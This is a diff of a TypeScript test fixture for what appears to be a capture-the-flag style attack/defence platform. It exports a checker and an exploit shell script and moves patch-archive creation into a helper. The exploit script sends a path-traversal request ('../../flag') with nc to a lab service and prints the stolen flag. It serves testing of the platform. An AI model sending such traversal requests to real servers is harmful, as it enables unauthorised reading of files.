@@ -40,10 +40,10 @@ export const goodPatch = {
 }
 
 const ask = (file: string) => `printf 'GET /cgi-bin/read?f=${file} HTTP/1.0\\r\\nHost: %s:8080\\r\\n\\r\\n' "$2" | nc -w 3 "$2" 8080`
-const checker = `#!/bin/sh\n[ "$1" = check ] || exit 110\nanswer=$(${ask('news')})\ncase "$answer" in *hello*) exit 101 ;; "") exit 104 ;; *) echo "$answer"; exit 103 ;; esac\n`
-const exploit = `#!/bin/sh\n[ "$1" = exploit ] || exit 110\nanswer=$(${ask('../../flag')})\ncase "$answer" in *flag{*) echo "$answer"; exit 0 ;; *) exit 1 ;; esac\n`
+export const checker = `#!/bin/sh\n[ "$1" = check ] || exit 110\nanswer=$(${ask('news')})\ncase "$answer" in *hello*) exit 101 ;; "") exit 104 ;; *) echo "$answer"; exit 103 ;; esac\n`
+export const exploit = `#!/bin/sh\n[ "$1" = exploit ] || exit 110\nanswer=$(${ask('../../flag')})\ncase "$answer" in *flag{*) echo "$answer"; exit 0 ;; *) exit 1 ;; esac\n`
 
-const definition: SceneDefinition = {
+export const definition: SceneDefinition = {
   format: 'beacon-scene/1',
   name: 'reader',
   nets: [{ id: 'lan', prefix: 28, egress: false, talk: true, capture: false }],
@@ -158,8 +158,8 @@ export async function openReadable(socketPath: string, { install, net }: ReturnT
   }
 }
 
-/** A patch as a stored tar.gz. */
-async function stored({ admin }: Awaited<ReturnType<typeof startTestServer>>, files: Readonly<Record<string, string>>): Promise<string> {
+/** A patch as it is sent. */
+export function archiveOf(files: Readonly<Record<string, string>>): Buffer {
   const folder = mkdtempSync(join(tmpdir(), 'beacon-patch-'))
   for (const [name, text] of Object.entries(files)) {
     mkdirSync(dirname(join(folder, name)), { recursive: true })
@@ -167,8 +167,13 @@ async function stored({ admin }: Awaited<ReturnType<typeof startTestServer>>, fi
   }
   const bytes = execFileSync('tar', ['-C', folder, '-cz', '.'])
   rmSync(folder, { recursive: true })
+  return bytes
+}
+
+/** A patch as a stored tar.gz. */
+async function stored({ admin }: Awaited<ReturnType<typeof startTestServer>>, files: Readonly<Record<string, string>>): Promise<string> {
   const form = new FormData()
-  form.append('file', new Blob([new Uint8Array(bytes)]), 'patch.tar.gz')
+  form.append('file', new Blob([new Uint8Array(archiveOf(files))]), 'patch.tar.gz')
   const { body } = await admin.request('POST', '/files?purpose=attachment', { body: form })
   return (body as { file_id: string }).file_id
 }
